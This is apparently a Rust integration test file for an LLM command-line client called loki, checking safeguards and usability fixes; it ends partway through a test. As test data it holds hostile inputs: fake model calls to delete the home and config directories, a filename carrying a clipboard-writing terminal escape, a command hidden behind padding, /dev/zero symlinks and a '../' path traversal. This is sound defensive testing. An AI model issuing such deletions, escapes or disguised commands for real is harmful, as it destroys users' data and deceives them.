//! Issue 26: what users of the new features trip over — each item through the real binary.

use serde_json::json;

use super::tools::{tool_results, tools_env};
use crate::common::fake_llm::openai;

/// Item C: `fs_rm` never removes the home directory, loki's config or cache directory,
/// or anything containing them — even with `--yolo` and a working directory outside home.
#[test]
fn fs_rm_refuses_home_and_loki_s_own_directories_even_with_yolo() {
    let env = tools_env("");
    let home = env.root().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join("precious.txt"), "keep").unwrap();
    env.server.push(openai::tool_call_stream(&[
        ("r1", "fs_rm", r#"{"path":"~"}"#),
        ("r2", "fs_rm", r#"{"path":"../config"}"#),
        ("r3", "fs_rm", r#"{"path":"../cache"}"#),
        ("r4", "fs_rm", &json!({"path": env.root()}).to_string()),
    ]));
    env.server.push(openai::text_stream(&["Tried."]));
    env.loki().args(["--yolo", "clean up"]).assert().success();
    let results = tool_results(&env.server.last_request().json());
    assert_eq!(results.len(), 4);
    for (id, content) in &results {
        assert!(content.contains("refused"), "{id}: {content}");
    }
    assert!(home.join("precious.txt").exists());
    assert!(env.config_path().exists());
}

/// Item A: a redirect from `api_base` to another origin is not followed — reqwest would
/// have forwarded `x-api-key` there — and the error names where it pointed.
#[test]
fn credentials_never_follow_a_redirect_to_another_origin() {
    use crate::common::fake_llm::{FakeLlm, Reply};
    let env = crate::common::TestEnv::new();
    let elsewhere = FakeLlm::start();
    env.write_config(&format!(
        "model: claude:c\nclients:\n  - type: claude\n    api_base: {}\n    api_key: sk-ant-secret-test\n    models:\n      - name: c\n    extra:\n      retry_base_delay_ms: 10\n",
        env.server.root_url()
    ));
    let target = format!("{}/v1/messages", elsewhere.root_url());
    env.server
        .set_default(Reply::raw(307, "text/plain", "").header("location", &target));
    elsewhere.push(crate::common::fake_llm::anthropic::text_stream(&["stolen"]));
    let out = env.loki().arg("hi").assert().failure();
    let err = crate::common::stderr(&out);
    assert!(err.contains("another origin"), "{err}");
    assert!(err.contains(&elsewhere.root_url()), "{err}");
    assert_eq!(elsewhere.request_count(), 0, "the key went elsewhere");
    assert_eq!(err.lines().count(), 1, "{err}");
}

/// Item 1: a script tool's call is checked against its declared schema before the script
/// starts: a missing required option or a wrong type is `bad_arguments` for the model.
#[test]
fn script_tools_get_only_calls_that_fit_their_schema() {
    let env = tools_env("");
    super::tools::write_tool(
        &env,
        "echo_tool.sh",
        "#!/usr/bin/env bash\n# @describe Echo text.\n# @option --text! The text\n# @option --times <INT> How often\nmain() { touch \"$LLM_ROOT_DIR/ran\"; echo \"$argc_text\" >> \"$LLM_OUTPUT\"; }\neval \"$(argc --argc-eval \"$0\" \"$@\")\"\n",
    );
    env.server.push(openai::tool_call_stream(&[
        ("e1", "echo_tool", "{}"),
        ("e2", "echo_tool", r#"{"text": ["a"]}"#),
    ]));
    env.server.push(openai::text_stream(&["Could not."]));
    let out = env
        .loki()
        .args(["--yolo", "--output-format", "stream-json", "echo"])
        .assert()
        .success();
    let events = crate::common::stdout(&out);
    let results = tool_results(&env.server.last_request().json());
    assert!(results[0].1.contains("`text` is required"), "{results:?}");
    assert!(
        results[1].1.contains("`text` must be string"),
        "{results:?}"
    );
    assert!(events.contains(r#""kind":"bad_arguments""#), "{events}");
    assert!(!env.config_dir().join("ran").exists(), "the script ran");
}

/// Item D: a knowledge base whose file name carries escape sequences is listed escaped
/// on a terminal (no clipboard write, no title change).
#[test]
fn list_rags_escapes_names_on_a_terminal() {
    let env = crate::common::TestEnv::new();
    let rags = env.config_dir().join("rags");
    std::fs::create_dir_all(&rags).unwrap();
    std::fs::write(rags.join("evil\u{1b}]52;c;aGk=\u{7}.yaml"), "x").unwrap();
    std::fs::write(rags.join("docs.yaml"), "x").unwrap();
    let mut pty = crate::common::pty::Pty::spawn(&env, &["--list-rags"], &[]);
    let out = pty.read_to_end();
    assert!(out.contains("docs"), "{out:?}");
    assert!(
        !out.contains("\u{1b}]52"),
        "raw escape reached the terminal: {out:?}"
    );
    assert!(out.contains("evil"), "{out:?}");
}

/// Item B: a command padded with thousands of spaces or dozens of blank lines is shown
/// folded with a counted marker, so both parts of what runs are on screen above the menu.
#[test]
fn a_command_padded_with_blanks_is_shown_folded() {
    for (padding, marker) in [
        (" ".repeat(5000), "⟪5000 spaces⟫"),
        ("\n".repeat(61), "⟪60 blank lines⟫"),
    ] {
        let env = crate::common::TestEnv::new();
        env.server
            .push(openai::text_json(&format!("touch X{padding}ls -la")));
        let mut pty = crate::common::pty::Pty::spawn(&env, &["-e", "list"], &[("NO_COLOR", "1")]);
        let shown = pty.expect("execute");
        assert!(shown.contains("touch X"), "{shown:?}");
        assert!(shown.contains(marker), "{shown:?}");
        assert!(shown.contains("ls -la"), "{shown:?}");
        assert!(shown.contains("part of what runs"), "{shown:?}");
        pty.send("\x1b[A\r"); // up wraps to "quit"
        pty.read_to_end();
        assert!(!env.work_dir().join("X").exists());
    }
}

/// Item E: a known secret typed into the REPL reaches history.txt redacted; knowledge
/// base files (which hold the documents' text) are private.
#[test]
fn history_lines_are_redacted_and_knowledge_bases_are_private() {
    let env = crate::common::TestEnv::new();
    env.server.push(openai::text_stream(&["noted"]));
    let mut pty = crate::common::pty::Pty::spawn(&env, &[], &[("NO_COLOR", "1")]);
    pty.expect("mini)> ");
    // `test-key` is the fake client's api_key.
    pty.send("remember my key test-key please\r");
    pty.expect("noted");
    pty.expect("mini)> ");
    pty.send(".exit\r");
    pty.exit_code();
    let history = std::fs::read_to_string(env.config_dir().join("history.txt")).unwrap();
    assert!(history.contains("remember my key"), "{history}");
    assert!(!history.contains("test-key"), "{history}");

    env.write("kb/notes.md", "solar panels make electricity");
    env.server.push(openai::text_stream(&["ok"]));
    env.loki()
        .args(["--rag", "kw", "--rag-docs", "kb", "solar?"])
        .assert()
        .success();
    let rags = env.config_dir().join("rags");
    let mut files = 0;
    for entry in walkdir::WalkDir::new(&rags).into_iter().flatten() {
        if entry.file_type().is_file() {
            files += 1;
            crate::common::assert_private(entry.path());
        }
    }
    assert!(files >= 2, "{files} files under {}", rags.display());
}

/// Item F: files loki reads whole refuse what is not a regular file — a macro that is a
/// FIFO does not block, a macro or session file linked to `/dev/zero` is not read until
/// memory runs out.
#[cfg(unix)]
#[test]
fn state_files_that_are_not_regular_files_are_refused_at_once() {
    let env = crate::common::TestEnv::new();
    let macros = env.config_dir().join("macros");
    std::fs::create_dir_all(&macros).unwrap();
    let status = std::process::Command::new("mkfifo")
        .arg(macros.join("fifo.yaml"))
        .status()
        .expect("mkfifo (coreutils) is needed by this test");
    assert!(status.success());
    std::os::unix::fs::symlink("/dev/zero", macros.join("zero.yaml")).unwrap();
    for name in ["fifo", "zero"] {
        let out = env
            .loki()
            .args(["--macro", name])
            .timeout(std::time::Duration::from_secs(20))
            .assert()
            .failure();
        let err = crate::common::stderr(&out);
        assert!(err.contains("not a regular file"), "{name}: {err}");
    }
    // A session whose state file is a link to /dev/zero.
    env.server.push(openai::text_stream(&["saved"]));
    env.loki().args(["-s", "z", "hi"]).assert().success();
    let state = env.session_file("z");
    std::fs::remove_file(&state).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &state).unwrap();
    let out = env
        .loki()
        .args(["-s", "z", "again"])
        .timeout(std::time::Duration::from_secs(20))
        .assert()
        .failure();
    let err = crate::common::stderr(&out);
    assert!(err.contains("not a regular file"), "{err}");
    assert!(err.contains("damaged"), "{err}");
    // Issue 27 item 7: a name pointing nowhere sensible stops with an error too.
    let alias = env.config_dir().join("sessions/by-name/z");
    for content in ["../../../../etc", ""] {
        std::fs::write(&alias, content).unwrap();
        let out = env.loki().args(["-s", "z", "again"]).assert().failure();
        let err = crate::common::stderr(&out);
        assert!(err.contains("does not hold a session id"), "{err}");
        assert_eq!(
            std::fs::read_to_string(&alias).unwrap(),
            content,
            "re-pointed"
        );
    }
}

/// Item 3: `` -f '`command`' `` runs the command through the user's shell and attaches
/// its output as a `CMD` section (Loki's command input); a failing command is a one-line
/// error with its exit status.
#[test]
fn a_backtick_attachment_is_the_output_of_the_command() {
    let env = crate::common::TestEnv::new();
    env.write("notes.txt", "alpha\n");
    env.server.push(openai::text_stream(&["Looks fine."]));
    env.loki()
        .args(["-f", "`cat notes.txt; echo beta`", "--", "review this"])
        .assert()
        .success();
    let body = env.server.last_request().json();
    let sent = body["messages"][0]["content"].as_str().unwrap().to_string();
    assert!(
        sent.contains("============ CMD: cat notes.txt; echo beta ============\nalpha\nbeta"),
        "{sent}"
    );
    assert!(sent.starts_with("review this\n\n"), "{sent}");

    let out = env
        .loki()
        .args(["-f", "`echo oops >&2; exit 3`", "--", "x"])
        .assert()
        .code(1);
    let err = crate::common::stderr(&out);
    assert!(err.contains("failed (exit 3): oops"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

/// Item 16: a key repeated in config.yaml is reported where it is repeated.
#[test]
fn a_duplicate_config_key_is_reported_at_its_line() {
    let env = crate::common::TestEnv::new();
    let cfg = std::fs::read_to_string(env.config_path()).unwrap();
    env.write_config(&format!("stream: true\n{cfg}stream: false\n"));
    let repeat = cfg.lines().count() + 2;
    let out = env.loki().arg("hi").assert().failure();
    let err = crate::common::stderr(&out);
    assert!(
        err.contains(&format!(
            ":{repeat}:1: duplicate key `stream` (first at line 1)"
        )),
        "{err}"
    );
}

/// Item F: more than 128 tool calls in one response are not dropped silently: the user is
/// warned and the model told.
#[test]
fn tool_calls_beyond_the_limit_are_reported() {
    let env = tools_env("");
    let ids: Vec<String> = (0..130).map(|i| format!("t{i}")).collect();
    let calls: Vec<(&str, &str, &str)> = ids
        .iter()
        .map(|id| (id.as_str(), "get_current_time", "{}"))
        .collect();
    env.server.push(openai::tool_call_stream(&calls));
    env.server.push(openai::text_stream(&["Done."]));
    let out = env
        .loki()
        .args(["what time is it, 130 times?"])
        .assert()
        .success();
    let err = crate::common::stderr(&out);
    assert!(err.contains("2 more tool calls than the 128"), "{err}");
    let body = env.server.last_request().json();
    assert_eq!(tool_results(&body).len(), 128);
    let last = body["messages"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["role"], "user");
    assert!(
        last["content"]
            .as_str()
            .unwrap()
            .contains("2 further tool calls"),
        "{last}"
    );
}

/// Item 5: in text mode, the answers to several `--input-format stream-json` lines each
/// end with their own line break.
#[test]
fn headless_text_answers_are_separated_by_line_breaks() {
    let env = crate::common::TestEnv::new();
    env.server.push(openai::text_stream(&["first answer"]));
    env.server.push(openai::text_stream(&["second answer"]));
    let lines = "{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":\"a\"}}\n{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":\"b\"}}\n";
    let out = env
        .loki()
        .args(["--input-format", "stream-json"])
        .write_stdin(lines)
        .assert()
        .success();
    assert_eq!(crate::common::stdout(&out), "first answer\nsecond answer\n");
}

/// Item 14: deleting a built-in role that has no file says so (no OS error).
#[test]
fn deleting_a_built_in_role_without_a_file_says_why() {
    let env = crate::common::TestEnv::new();
    let macros = env.config_dir().join("macros");
    std::fs::create_dir_all(&macros).unwrap();
    std::fs::write(
        macros.join("rm-role.yaml"),
        "steps:\n  - .delete role code\n",
    )
    .unwrap();
    // The first run installs the built-in roles as files; the user removed one since.
    env.server.push(openai::text_stream(&["hi"]));
    env.loki().arg("hello").assert().success();
    std::fs::remove_file(env.config_dir().join("roles/code.md")).unwrap();
    let out = env.loki().args(["--macro", "rm-role"]).assert().failure();
    let err = crate::common::stderr(&out);
    assert!(
        err.contains("a built-in role, with no file to delete"),
        "{err}"
    );
    assert!(!err.contains("os error"), "{err}");
}

/// Item G: a signal during a knowledge-base build stops it like a turn — exit 143 for
/// SIGTERM, 129 for SIGHUP, 130 for SIGINT — and no index is written.
#[test]
fn a_signal_stops_a_knowledge_base_build() {
    for (signal, code) in [("TERM", 143), ("HUP", 129), ("INT", 130)] {
        let env = crate::common::TestEnv::new();
        let url = format!("{}/slow-doc", env.server.root_url());
        env.server.set_default(
            crate::common::fake_llm::Reply::raw(200, "text/plain", "slow text")
                .delay_headers(std::time::Duration::from_secs(20)),
        );
        let mut child = env
            .loki_std()
            .args(["--rag", "kb", "--rag-docs", &url])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // The build is waiting for the document.
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while env.server.request_count() == 0 && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        assert_eq!(env.server.request_count(), 1, "the build never fetched");
        let status = std::process::Command::new("kill")
            .args([&format!("-{signal}"), &child.id().to_string()])
            .status()
            .unwrap();
        assert!(status.success());
        let started = std::time::Instant::now();
        let status = child.wait().unwrap();
        assert!(
            started.elapsed() < std::time::Duration::from_secs(10),
            "{signal}: not stopped"
        );
        assert_eq!(status.code(), Some(code), "{signal}");
        assert!(
            !env.config_dir().join("rags/kb.yaml").exists(),
            "{signal}: index written"
        );
    }
}

/// Item 13: `.set` names the display settings among the keys it accepts, and `.help`
/// mentions `%%` and command input.
#[test]
fn set_lists_display_keys_and_help_mentions_the_last_answer() {
    let env = crate::common::TestEnv::new();
    let macros = env.config_dir().join("macros");
    std::fs::create_dir_all(&macros).unwrap();
    std::fs::write(macros.join("bad-set.yaml"), "steps:\n  - .set colour 1\n").unwrap();
    let out = env.loki().args(["--macro", "bad-set"]).assert().failure();
    let err = crate::common::stderr(&out);
    for key in ["highlight", "wrap", "wrap_code", "theme", "light_theme"] {
        assert!(err.contains(key), "{key} missing: {err}");
    }
    let mut pty = crate::common::pty::Pty::spawn(&env, &[], &[("NO_COLOR", "1")]);
    pty.expect("mini)> ");
    pty.send(".help\r");
    pty.expect("%% is the last answer");
    pty.expect("mini)> ");
    pty.send("\x04");
    pty.read_to_end();
}

/// Item 15 (part): `.delete macro NAME` removes the macro file.
#[test]
fn delete_macro_removes_the_file() {
    let env = crate::common::TestEnv::new();
    let macros = env.config_dir().join("macros");
    std::fs::create_dir_all(&macros).unwrap();
    std::fs::write(macros.join("mine.yaml"), "steps: [hello]\n").unwrap();
    let mut pty = crate::common::pty::Pty::spawn(&env, &[], &[("NO_COLOR", "1")]);
    pty.expect("mini)> ");
    pty.send(".delete macro mine\r");
    pty.expect("deleted");
    pty.expect("mini)> ");
    pty.send(".delete macro mine\r");
    pty.expect("unknown macro `mine`");
    pty.expect("mini)> ");
    pty.send("\x04");
    pty.read_to_end();
    assert!(!macros.join("mine.yaml").exists());
}

/// Item 4 (part): the client's `<NAME>_API_KEY` variable overrides `api_key` in the file,
/// as in Loki.
#[test]
fn the_client_s_api_key_variable_overrides_the_file() {
    let env = crate::common::TestEnv::new();
    env.server.push(openai::text_stream(&["ok"]));
    env.loki()
        .env("FAKE_API_KEY", "from-the-environment")
        .arg("hi")
        .assert()
        .success();
    let auth = env
        .server
        .last_request()
        .header("authorization")
        .unwrap_or_default()
        .to_string();
    assert_eq!(auth, "Bearer from-the-environment");
}

/// Item 4 (part): read-only dot-commands run in macros, and `.info` has the rows of
/// `--info` (item 15), with the conversation's values.
#[test]
fn macros_may_show_info_with_the_rows_of_dash_dash_info() {
    let env = crate::common::TestEnv::new();
    let macros = env.config_dir().join("macros");
    std::fs::create_dir_all(&macros).unwrap();
    std::fs::write(
        macros.join("report.yaml"),
        "steps:\n  - .set temperature 0.3\n  - .info\n  - .context\n  - .info session\n",
    )
    .unwrap();
    let out = env.loki().args(["--macro", "report"]).assert().code(1);
    let text = crate::common::stdout(&out);
    let cli = crate::common::stdout(&env.loki().arg("--info").assert().success());
    for line in cli.lines() {
        let name = line.split_whitespace().next().unwrap();
        assert!(
            text.lines()
                .any(|l| l.split_whitespace().next() == Some(name)),
            "`.info` lacks the --info row {name}:\n{text}"
        );
    }
    assert!(
        text.contains("temperature                   0.3\n"),
        "{text}"
    );
    assert!(text.contains("messages                      0\n"), "{text}");
    // `.context` printed its report; `.info session` failed the step, naming why.
    assert!(text.contains("total"), "{text}");
    let err = crate::common::stderr(&out);
    assert!(
        err.contains("step 4") && err.contains("no session is active"),
        "{err}"
    );
    assert_eq!(env.server.requests().len(), 0);
}

/// Item 4 (part): the prompt comes before the attached documents, as in Loki.
#[test]
fn the_prompt_comes_before_the_documents() {
    let env = crate::common::TestEnv::new();
    env.write("a.txt", "alpha\n");
    env.server.push(openai::text_stream(&["ok"]));
    env.loki()
        .args(["-f", "a.txt", "what is this?"])
        .assert()
        .success();
    let body = env.server.last_request().json();
    assert_eq!(
        body["messages"][0]["content"],
        "what is this?\n\n============ FILE: a.txt ============\nalpha"
    );
}

/// Item 4 (part): a one-shot run stops when the model calls a tool it does not have:
/// nothing of that response runs, exit 1 with one line naming the tool (headless:
/// `turn_aborted`). The REPL still tells the model and goes on.
#[test]
fn an_unknown_tool_fails_a_one_shot_run() {
    let env = tools_env("");
    let calls = [
        ("w", "fs_write", r#"{"path":"made.txt","content":"x"}"#),
        ("u", "no_such_tool", "{}"),
    ];
    env.server.push(openai::tool_call_stream(&calls));
    let out = env.loki().args(["--yolo", "go"]).assert().code(1);
    // The calls are shown as not run, then one error line names the tool.
    let err = crate::common::stderr(&out);
    let errors: Vec<&str> = err.lines().filter(|l| l.starts_with("error:")).collect();
    assert_eq!(errors.len(), 1, "{err}");
    assert!(errors[0].contains("`no_such_tool`"), "{err}");
    assert!(err.contains("fs_write failed: not run"), "{err}");
    assert!(!env.work_dir().join("made.txt").exists());
    assert_eq!(env.server.requests().len(), 1);

    env.server.push(openai::tool_call_stream(&calls));
    let out = env
        .loki()
        .args(["--yolo", "--output-format", "stream-json", "go"])
        .assert()
        .code(1);
    let text = crate::common::stdout(&out);
    let last: serde_json::Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    assert_eq!(last["type"], "turn_aborted", "{text}");
    assert!(
        last["error"].as_str().unwrap().contains("no_such_tool"),
        "{last}"
    );
    assert!(!env.work_dir().join("made.txt").exists());

    // In the REPL the model is told, and the turn goes on.
    env.server
        .push(openai::tool_call_stream(&[("u", "no_such_tool", "{}")]));
    env.server.push(openai::text_stream(&["Recovered."]));
    let mut pty = crate::common::pty::Pty::spawn(&env, &["--yolo"], &[("NO_COLOR", "1")]);
    pty.expect("mini)> ");
    pty.send("go\r");
    pty.expect("Recovered.");
    pty.expect("mini)> ");
    pty.send("\x04");
    pty.read_to_end();
    let results = tool_results(&env.server.last_request().json());
    assert!(results[0].1.contains("no tool named"), "{results:?}");
}

/// Item 5: every flag of a headless run is honoured or refused. `-c` with JSON output
/// gives the code as the answer; retries are in the result's notices; `--dry-run` with
/// JSON output, `-c` with stream-json and text or `-f` with `--input-format stream-json`
/// are usage errors (exit 2), before anything is sent.
#[test]
fn headless_flags_are_honoured_or_refused() {
    let env = crate::common::TestEnv::new();
    env.server
        .push(openai::error(429, "Rate limit reached", "rate_limit").header("retry-after", "0.1"));
    env.server.push(openai::text_stream(&[
        "Run this:\n```sh\nls -la\n```\nDone.",
    ]));
    let out = env
        .loki()
        .args(["--output-format", "json", "-c", "list files"])
        .assert()
        .success();
    let result: serde_json::Value =
        serde_json::from_str(crate::common::stdout(&out).trim()).unwrap();
    assert_eq!(result["answer"], "ls -la", "{result}");
    let notices = result["notices"].as_array().unwrap();
    assert!(
        notices.iter().any(|n| n["level"] == "warning"
            && n["message"]
                .as_str()
                .unwrap()
                .contains("retrying in 0.1s (1/")),
        "{result}"
    );
    let sent = env.server.requests().len();

    env.write("a.txt", "alpha");
    for args in [
        &["--output-format", "json", "--dry-run", "hi"][..],
        &["--output-format", "stream-json", "--dry-run", "hi"],
        &["--output-format", "stream-json", "-c", "hi"],
        &["--input-format", "stream-json", "hi"],
        &["--input-format", "stream-json", "-f", "a.txt"],
    ] {
        let out = env
            .loki()
            .args(args)
            .write_stdin(r#"{"type":"user","message":{"role":"user","content":"x"}}"#)
            .assert()
            .code(2);
        let err = crate::common::stderr(&out);
        assert!(err.starts_with("error: "), "{args:?}: {err}");
    }
    assert_eq!(env.server.requests().len(), sent);
}

/// Item 9: keys typed while a slow dot-command works (here `.compress session` waiting
/// for the summary) are held, unechoed, and run as separate lines at the next prompt,
/// instead of becoming one multi-line buffer of which only the first line runs.
#[test]
fn keys_typed_during_a_slow_dot_command_run_as_separate_lines() {
    let env = crate::common::TestEnv::new();
    let mut pty = crate::common::pty::Pty::spawn(&env, &[], &[("NO_COLOR", "1")]);
    let sprompt = "mini)work) ";
    pty.expect("mini)> ");
    pty.send(".session work\r");
    pty.expect(sprompt);
    env.server.push(openai::text_stream(&["hello"]));
    pty.send("hi there\r");
    pty.expect("hello");
    pty.expect(sprompt);
    env.server.push(
        openai::text_json("The user greeted the assistant.")
            .delay_headers(std::time::Duration::from_millis(1500)),
    );
    pty.send(".compress session\r");
    env.server
        .wait_for_requests(2, std::time::Duration::from_secs(20));
    env.server.push(openai::text_stream(&["answer to first"]));
    pty.send("first\r.set temperature 0.7\r");
    pty.expect("answer to first");
    pty.expect("temperature: 0.7");
    pty.expect(sprompt);
    let sent = env.server.last_request().json();
    let last = sent["messages"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["content"], "first", "{sent}");
}

/// Item 9: keys typed while loki starts (here: unlocking the vault for config.yaml's
/// placeholder) run as separate lines at the first prompt.
#[test]
fn keys_typed_at_start_up_run_as_separate_lines() {
    let env = crate::common::TestEnv::new();
    crate::common::write_private(&env.config_dir().join("vault-pass"), "start-up password\n");
    let cfg = std::fs::read_to_string(env.config_path()).unwrap();
    env.write_config(&format!("vault_password_file: vault-pass\n{cfg}"));
    env.loki()
        .args(["--add-secret", "FAKE_KEY"])
        .write_stdin("test-key")
        .assert()
        .success();
    let cfg = std::fs::read_to_string(env.config_path()).unwrap();
    env.write_config(&cfg.replace("api_key: test-key", "api_key: '{{FAKE_KEY}}'"));
    env.server.push(openai::text_stream(&["answer one"]));
    let mut pty = crate::common::pty::Pty::spawn(&env, &[], &[("NO_COLOR", "1")]);
    pty.send("one\r.set temperature 0.4\r");
    pty.expect("answer one");
    pty.expect("temperature: 0.4");
    pty.expect("mini)> ");
    pty.send("\x04");
    pty.read_to_end();
    let sent = env.server.last_request().json();
    assert_eq!(sent["messages"][0]["content"], "one", "{sent}");
}

/// Item 11: yes/no questions take one key. Editing keys are not letters, Esc at the
/// carry-over question leaves the session unopened, and what is typed after the answer
/// goes to the next prompt.
#[test]
fn yes_no_questions_take_one_key_and_keep_type_ahead() {
    let env = crate::common::TestEnv::new();
    let mut pty = crate::common::pty::Pty::spawn(&env, &[], &[("NO_COLOR", "1")]);
    pty.expect("mini)> ");
    env.server.push(openai::text_stream(&["first answer"]));
    pty.send("first question\r");
    pty.expect("first answer");
    pty.expect("mini)> ");
    pty.send(".session work\r");
    pty.expect("into session `work`?");
    pty.send("\x15\x17\x0c");
    pty.send("\x1b");
    pty.expect("session `work` not opened");
    pty.expect("mini)> ");
    assert!(!env.config_dir().join("sessions").join("work.yaml").exists());

    pty.send(".session work\r");
    pty.expect("into session `work`?");
    env.server.push(openai::text_stream(&["second answer"]));
    pty.send("ysecond question\r");
    pty.expect("with the 2 messages of this conversation");
    pty.expect("second answer");
    pty.expect("mini)work) ");
    let sent = env.server.last_request().json();
    let last = sent["messages"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["content"], "second question", "{sent}");
}

/// Item 10: a broken `.edit session` never breaks the session. The editor works on a
/// draft; an invalid draft leaves the session as it was (the next message works), is
/// kept aside, and can be edited again right away.
#[test]
fn a_broken_session_edit_leaves_the_session_usable() {
    let env = crate::common::TestEnv::new();
    // The first edit breaks the YAML; later ones change a message.
    let editor = env.work_dir().join("editor.sh");
    std::fs::write(
        &editor,
        "#!/bin/sh\nn=$(cat \"$0.count\" 2>/dev/null || echo 0); n=$((n+1)); echo $n > \"$0.count\"\n\
         if [ $n = 1 ]; then printf 'messages: [unclosed\\n' > \"$1\"; \
         else sed -i 's/hi there/hello edited/' \"$1\"; fi\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&editor, std::fs::Permissions::from_mode(0o755)).unwrap();
    let editor = editor.display().to_string();
    let mut pty = crate::common::pty::Pty::spawn(
        &env,
        &["-s", "work"],
        &[("NO_COLOR", "1"), ("EDITOR", editor.as_str())],
    );
    let sprompt = "mini)work) ";
    pty.expect(sprompt);
    env.server.push(openai::text_stream(&["hello"]));
    pty.send("hi there\r");
    pty.expect("hello");
    pty.expect(sprompt);
    pty.send(".edit session\r");
    pty.expect("the session was not changed");
    pty.expect("Edit it again?");
    pty.send("n");
    pty.expect("your edit is kept in");
    pty.expect(sprompt);
    // The session is intact: the next message carries the history.
    env.server.push(openai::text_stream(&["still here"]));
    pty.send("next\r");
    pty.expect("still here");
    pty.expect(sprompt);
    let sent = env.server.last_request().json();
    assert_eq!(sent["messages"][0]["content"], "hi there", "{sent}");
    // Editing again works, and the edit is used.
    pty.send(".edit session\r");
    pty.expect("reloaded the session (4 messages)");
    pty.expect(sprompt);
    env.server.push(openai::text_stream(&["ok"]));
    pty.send("and now\r");
    pty.expect("ok");
    pty.expect(sprompt);
    let sent = env.server.last_request().json();
    assert_eq!(sent["messages"][0]["content"], "hello edited", "{sent}");
}

/// Item 12: a session naming its own MCP servers starts them when it is opened (not at
/// the next turn) and lets the previous ones go; a role naming MCP servers while MCP is
/// off says so.
#[test]
fn a_session_s_mcp_servers_start_when_it_opens() {
    let bin = super::mcp::server_bin();
    let env = super::mcp::mcp_env(
        json!({"a": {"type": "stdio", "command": bin}, "b": {"type": "stdio", "command": bin}}),
        "enabled_mcp_servers: a\n",
    );
    let sessions = env.config_dir().join("sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    std::fs::write(
        sessions.join("withb.yaml"),
        "enabled_mcp_servers: b\nmessages: []\n",
    )
    .unwrap();
    let mut pty = crate::common::pty::Pty::spawn(&env, &[], &[("NO_COLOR", "1")]);
    pty.expect("mini)> ");
    pty.send(".session withb\r");
    pty.expect("mini)withb) ");
    // No turn has run: the servers change anyway.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        pty.send(".info\r");
        let shown = pty.expect("mini)withb) ");
        let b_running = shown.contains("mcp:b                         running");
        let a_held = shown.contains("mcp:a                         running");
        if b_running && !a_held {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "servers did not follow the session: {shown}"
        );
        std::thread::sleep(std::time::Duration::from_millis(300));
    }
    assert_eq!(env.server.requests().len(), 0);
}

#[test]
fn a_role_with_mcp_servers_warns_when_mcp_is_off() {
    let env = crate::common::TestEnv::new();
    let cfg = std::fs::read_to_string(env.config_path()).unwrap();
    env.write_config(&format!("mcp_server_support: false\n{cfg}"));
    let roles = env.config_dir().join("roles");
    std::fs::create_dir_all(&roles).unwrap();
    std::fs::write(
        roles.join("gh.md"),
        "---\nenabled_mcp_servers: github\n---\nYou work with GitHub.\n",
    )
    .unwrap();
    let mut pty = crate::common::pty::Pty::spawn(&env, &[], &[("NO_COLOR", "1")]);
    pty.expect("mini)> ");
    pty.send(".role gh\r");
    pty.expect("names MCP servers (github), but MCP support is off");
    pty.expect("gh> ");
}

/// Item 15: `.role NEW` and `.macro NEW` offer to write the file in the editor, as in
/// Loki; declining, or leaving the template untouched, creates nothing.
#[test]
fn new_roles_and_macros_are_written_in_the_editor() {
    let env = crate::common::TestEnv::new();
    // The editor replaces the body of a role, or writes a one-step macro.
    let editor = env.work_dir().join("editor.sh");
    std::fs::write(
        &editor,
        "#!/bin/sh\ncase \"$1\" in\n  *.md) printf -- '---\\ntemperature: 0.1\\n---\\nYou speak like a pirate.\\n' > \"$1\";;\n  *.yaml) printf 'steps:\\n  - ahoy there\\n' > \"$1\";;\nesac\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&editor, std::fs::Permissions::from_mode(0o755)).unwrap();
    let editor = editor.display().to_string();
    let mut pty = crate::common::pty::Pty::spawn(
        &env,
        &[],
        &[("NO_COLOR", "1"), ("EDITOR", editor.as_str())],
    );
    pty.expect("mini)> ");
    pty.send(".role pirate\r");
    pty.expect("There is no role `pirate`. Create it in the editor?");
    pty.send("n");
    pty.expect("unknown role `pirate`");
    pty.expect("mini)> ");
    assert!(!env.config_dir().join("roles/pirate.md").exists());

    pty.send(".role pirate\r");
    pty.expect("Create it in the editor?");
    pty.send("y");
    pty.expect("role: pirate");
    pty.expect("pirate> ");
    env.server.push(openai::text_stream(&["Arr."]));
    pty.send("hello\r");
    pty.expect("Arr.");
    pty.expect("pirate> ");
    let sent = env.server.last_request().json();
    assert_eq!(sent["messages"][0]["content"], "You speak like a pirate.");
    assert_eq!(sent["temperature"], 0.1);

    pty.send(".macro greet\r");
    pty.expect("There is no macro `greet`. Create it in the editor?");
    pty.send("y");
    pty.expect("created macro `greet`");
    pty.expect("pirate> ");
    env.server.push(openai::text_stream(&["Ahoy!"]));
    pty.send(".macro greet\r");
    pty.expect("Ahoy!");
    pty.expect("pirate> ");
    assert_eq!(
        std::fs::read_to_string(env.config_dir().join("macros/greet.yaml")).unwrap(),
        "steps:\n  - ahoy there\n"
    );
}

/// Item 4 (part): any tool runs from a shell as loki runs it for a model: `--run-tool`
/// and the `functions/bin/` wrappers the first run (built-in tools, with an empty
/// `mcp.json`) and `--build-tools` (script tools too) write. Approval and confinement
/// hold: a write without `--yolo` and nobody to ask is refused.
#[test]
fn tools_run_from_the_shell_through_wrappers() {
    let env = crate::common::TestEnv::new();
    env.write("notes.txt", "alpha\n");
    let functions = env.config_dir().join("functions");
    let out = env
        .loki()
        .args(["--run-tool", "fs_ls", r#"{"path":"."}"#])
        .assert()
        .success();
    assert!(crate::common::stdout(&out).contains("notes.txt"));
    assert!(
        functions.join("bin/fs_ls").exists(),
        "first run wrote no wrappers"
    );
